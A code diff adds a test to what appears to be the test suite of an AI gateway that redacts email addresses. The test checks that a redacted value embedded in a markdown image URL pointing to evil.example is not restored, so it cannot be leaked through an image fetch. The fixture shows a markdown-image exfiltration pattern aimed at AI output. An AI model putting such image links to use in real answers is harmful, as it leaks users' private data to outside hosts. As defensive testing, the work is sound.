@@ -57,6 +57,27 @@ def test_a_stream_of_bytes_ends_before_the_image_at_every_byte(gateway, policy, 
         assert answer.text == SAFE + "![x](" and b"evil" not in answer.body and Chat.ends(answer)
 
 
+def test_no_value_is_fetched_with_an_image(api, policy, upstream, client):
+    """With no rule about answers at all: a token in an image's address stays one, beside it it does not."""
+    policy(rules=[{"id": "mail", "find": ["EMAIL_ADDRESS"], "on": ["request"], "do": {"redact": "token"}}])
+    mail = "ada.lovelace@" + "canary-example.org"
+    for way in range(3):
+        for stream in (True, False):
+            heard = {}
+
+            def play(request):
+                heard["token"] = re.search(r"EMAIL_[A-Z0-9]+", request.raw.decode()).group()
+                text = "{0} ![{0}](https://evil.example/{0}?q={0}) [{0}](https://evil.example/{0})".format(heard["token"])
+                if stream:
+                    return plays(upstream, api.texts(*list(ways(text))[way])) or upstream.script.pop()
+                return upstream.whole(api.whole(text))
+
+            upstream.script.append(play)
+            answer = asks(client, api, stream, f"I am {mail}")
+            assert answer.text == "{0} ![{0}](https://evil.example/{1}?q={1}) [{0}](https://evil.example/{0})".format(
+                mail, heard["token"])
+
+
 def test_an_ordinary_link_and_one_to_a_listed_host_arrive(api, policy, upstream, client, audit):
     policy(rules=LINKS, answers=ALLOWED)
     text = f"{SAFE} [guide](https://docs.example.com/en/how-to-start.html#first) {IMAGE} yes"
